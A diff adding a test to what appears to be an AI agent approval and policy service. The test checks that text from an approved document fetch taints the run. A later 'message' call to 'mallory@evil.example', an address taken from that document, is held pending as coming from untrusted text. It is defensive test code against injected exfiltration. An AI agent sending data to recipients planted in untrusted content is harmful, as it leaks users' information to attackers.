@@ -169,6 +169,38 @@ def test_queue_shows_and_filters_by_sla_class(make_stack: Any) -> None:
     assert [a["approval_id"] for a in only] == [routine]
 
 
+REVIEWED_DOCS = SPEC.replace(
+    "policies:\n",
+    """policies:
+  - name: documents_are_reviewed
+    when: tool.name == "get_doc"
+    effect: require_approval
+    reason: documents are reviewed first
+    approvers: lead
+""",
+    1,
+)
+
+
+def test_what_an_approved_action_reads_taints_the_runs_next_call(make_stack: Any) -> None:
+    """The output of an action executed after approval counts for the run's provenance."""
+    stack = make_stack(REVIEWED_DOCS)
+    bot, lead = stack.client("bot"), stack.client("lead")
+    run_id = _open(bot)
+    pending = _act(bot, run_id, "get_doc", {"doc_id": "d1"})
+    assert pending["status"] == "pending"
+    decided = lead.post(
+        f"/v1/approvals/{pending['approval_id']}/decision",
+        json={"decision": "approve", "rationale": "fine"},
+    )
+    assert decided.status_code == 200, decided.text
+    done = bot.post(f"/v1/approvals/{pending['approval_id']}/execute").json()
+    assert done["status"] == "allowed" and "mallory@evil.example" in done["result"]["text"]
+    sent = _act(bot, run_id, "message", {"to": "mallory@evil.example", "body": "invoice"})
+    assert sent["status"] == "pending", sent
+    assert sent["reasons"] == ["recipient came from untrusted text"]
+
+
 def test_separation_of_duties(stack: Stack) -> None:
     admin = stack.client("acme-admin")
     run = admin.post(
